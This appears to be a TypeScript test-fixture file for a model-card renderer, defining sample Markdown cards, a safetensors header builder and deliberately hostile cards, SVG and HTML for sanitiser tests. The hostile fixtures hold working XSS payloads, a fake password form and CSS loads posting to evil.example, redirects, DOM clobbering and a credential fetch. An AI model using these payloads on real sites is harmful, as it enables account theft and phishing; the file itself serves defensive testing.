import type { FakeRepoSpec } from '../support/fake-repo.js';

/** A card with metadata and all supported Markdown elements. */
export const CARD = `---
license: mit
language: [en, de]
library_name: transformers
pipeline_tag: text-classification
base_model: far-ai/shown
datasets: [alice/rows]
tags: [near, tiny]
---
# Near model

It **sorts** texts, see its [configuration](config.json), the [notes](docs/notes.md#second), the [folder](docs/) and
[another model](/far-ai/shown). Its home is https://example.org/near.

![a grey pixel](figure.png) <img src="drawing.svg" alt="a drawing" width="40">

## Results

| step | loss | accuracy |
|-----:|:----:|----------|
| 1    | 0.9  | 51 %     |
| 2    | 0.4  | 87 %     |

- [x] trained
- [ ] tested

> [!NOTE]
> A note as GitHub has it.

A claim.[^1] ~~Not so.~~

\`\`\`python
from transformers import pipeline
pipe = pipeline("text-classification", model="alice/near")  # a comment
\`\`\`

<details><summary>More</summary>Folded.</details>

[^1]: Its proof.
`;

/** A card with what cards of the Hub use beyond Markdown. */
export const RICH_CARD = `---
widget:
- text: a red fox
  output: { url: figure.png }
- text: '-'
  output: { url: images/second.png }
model-index:
- name: rich
  results:
  - task: { type: text-classification }
    dataset: { name: Rows, type: alice/rows }
    metrics:
    - { type: accuracy, name: Accuracy, value: 0.912 }
---
# Rich model

<p align="center" style="text-align: center; font-size: 20px; position: fixed">A centered line</p>

The loss is \\\\(L = \\frac{a_1}{b_2}\\\\), it costs $5 or $6. :rocket: :no-such-emoji:

$$
E = m c^2
- 1
$$

[another model](https://huggingface.co/far-ai/shown/tree/main), [the documentation](https://huggingface.co/docs/hub)
![from the Hub](https://huggingface.co/alice/near/resolve/main/figure.png)

<Gallery />

A bad formula: \\\\(\\frac{\\\\)
`;

/** An untrusted card. Every script in it sets \`window.hacked\`. */
export const HOSTILE_CARD = `# Hostile

<script>window.hacked = 'script'</script>
<img src="no-such.png" onerror="window.hacked = 'onerror'">
<svg onload="window.hacked = 'svg'"><script>window.hacked = 'svg script'</script></svg>
<a id="link-1" href="javascript:window.hacked = 'link'">a link that runs</a>
[another](javascript:window.hacked='markdown')
<a href="data:text/html,<script>opener.hacked=1</script>">data</a>
<iframe src="https://evil.example/" srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
<form action="https://evil.example/" method="post"><input name="password" autofocus><button>Sign in</button></form>
<style>body { display: none } #main { background: url(https://evil.example/style) }</style>
<div style="position: fixed; inset: 0; z-index: 9999; background: red" class="fixed inset-0 z-50 bg-canvas">a curtain</div>
<p id="main">main</p><p id="app">app</p><img name="getElementById" alt=""><a id="cookie" name="location">names</a>
<p style="background: url(https://evil.example/background); margin-top: -900px; color: red">styled</p>
$$\\href{javascript:window.hacked='math'}{x} \\includegraphics{https://evil.example/math.png} \\htmlStyle{position: fixed}{y}$$
\\(\\def\\a{\\a\\a}\\a\\)
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/s.css">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">
<video src="no.mp4" autoplay onloadstart="window.hacked = 'video'"></video>

The end.
`;

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="window.hacked = 'svg'">
<script>window.hacked = 'script'; fetch('/api/auth/me').then(() => location.assign('/stolen'))</script>
<style>circle { fill: teal }</style><circle cx="20" cy="20" r="18"/></svg>`;

export const HOSTILE_HTML = `<!doctype html><title>Hub</title><h1>Sign in</h1><script>window.hacked = 1; fetch('/api/auth/me')</script>`;

/** A safetensors file without tensor data: the length of the header, and the header. */
export function safetensors(header: object): Buffer {
  const text = Buffer.from(JSON.stringify(header));
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(text.length));
  return Buffer.concat([length, text]);
}

export const WEIGHTS = safetensors({
  __metadata__: { format: 'pt' },
  'embed.weight': { dtype: 'F32', shape: [1000, 64], data_offsets: [0, 256000] },
  'head.bias': { dtype: 'F16', shape: [64], data_offsets: [256000, 256128] },
});

/** External repositories that are gated, renamed or datasets. */
export const RESTRICTED_REPOS: readonly FakeRepoSpec[] = [
  { id: 'far-ai/guarded', gated: 'manual', files: { 'README.md': '# Gated\n' } },
  { id: 'far-ai/new-name', aliases: ['far-ai/old-name', 'short'], files: { 'README.md': '# Moved\n' } },
  { id: 'far-ai/images', type: 'dataset', files: { 'data/train.csv': 'id,text\n1,one\n2,"two, and more"\n' } },
];
